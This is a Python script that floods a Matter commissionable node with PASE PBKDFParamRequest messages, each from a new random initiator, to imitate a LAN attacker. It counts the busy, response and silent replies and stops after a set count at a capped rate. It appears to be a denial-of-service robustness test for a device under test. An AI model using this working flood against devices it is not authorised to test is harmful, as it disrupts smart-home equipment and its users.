#!/usr/bin/env python3
"""A flood of PBKDFParamRequests (PASE's first message, Matter Core 4.14.1) at a commissionable
node, each from a new initiator node ID and exchange, as an attacker on the LAN would send them.

Prints how many were sent and what came back (BUSY status reports, PBKDFParamResponses, nothing).
Stops by itself after COUNT messages. For scripts/pase-flood.sh; sends only to the address given.
"""
import argparse
import os
import select
import socket
import struct
import time


def pbkdf_param_request(node_id, counter, exchange, session):
    # Message header: flags (S: source node ID present), session 0 (unsecured), no security
    # flags, counter, source node ID.
    header = struct.pack("<BHBIQ", 0x04, 0, 0x00, counter, node_id)
    # Protocol header: initiator + reliable, opcode 0x20, exchange ID, Secure Channel protocol.
    protocol = struct.pack("<BBHH", 0x05, 0x20, exchange, 0x0000)
    # PBKDFParamRequest TLV: {1: 32-byte random, 2: session ID (u16), 3: passcode ID 0, 4: false}
    payload = bytes([0x15, 0x30, 0x01, 0x20]) + os.urandom(32)
    payload += bytes([0x25, 0x02]) + struct.pack("<H", session) + bytes([0x24, 0x03, 0x00, 0x28, 0x04, 0x18])
    return header + protocol + payload


def count_reply(data, replies):
    """Sorts an unsecured reply by its Secure Channel opcode (Core 4.4: message header, then the
    protocol header: exchange flags, opcode, exchange ID, protocol ID)."""
    if len(data) < 8:
        replies["other"] += 1
        return
    offset = 8 + (8 if data[0] & 0x04 else 0) + {1: 8, 2: 2}.get(data[0] & 0x03, 0)
    opcode = data[offset + 1] if len(data) > offset + 1 else None
    name = {0x21: "pbkdfParamResponse", 0x40: "statusReport", 0x10: "standaloneAck"}.get(opcode, "other")
    replies[name] = replies.get(name, 0) + 1


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--target", required=True, help="IP:PORT of the node")
    parser.add_argument("--count", type=int, default=10000)
    parser.add_argument("--rate", type=float, default=2000, help="messages per second at most")
    args = parser.parse_args()
    host, port = args.target.rsplit(":", 1)
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.setblocking(False)
    replies = {}
    start = time.monotonic()
    for i in range(args.count):
        node_id = int.from_bytes(os.urandom(8), "little") | 1
        datagram = pbkdf_param_request(node_id, i + 1, i & 0xFFFF, (i % 0xFFFE) + 1)
        sock.sendto(datagram, (host, int(port)))
        while select.select([sock], [], [], 0)[0]:
            count_reply(sock.recv(2048), replies)
        # Pace to the rate, bounded: the loop ends after COUNT messages whatever happens.
        ahead = (i + 1) / args.rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    # What is still on its way back (bounded: two seconds).
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        if select.select([sock], [], [], 0.1)[0]:
            count_reply(sock.recv(2048), replies)
    took = time.monotonic() - start
    print(f"flood: {args.count} PBKDFParamRequests from {args.count} initiators in {took:.1f} s; replies: {replies}")


if __name__ == "__main__":
    main()
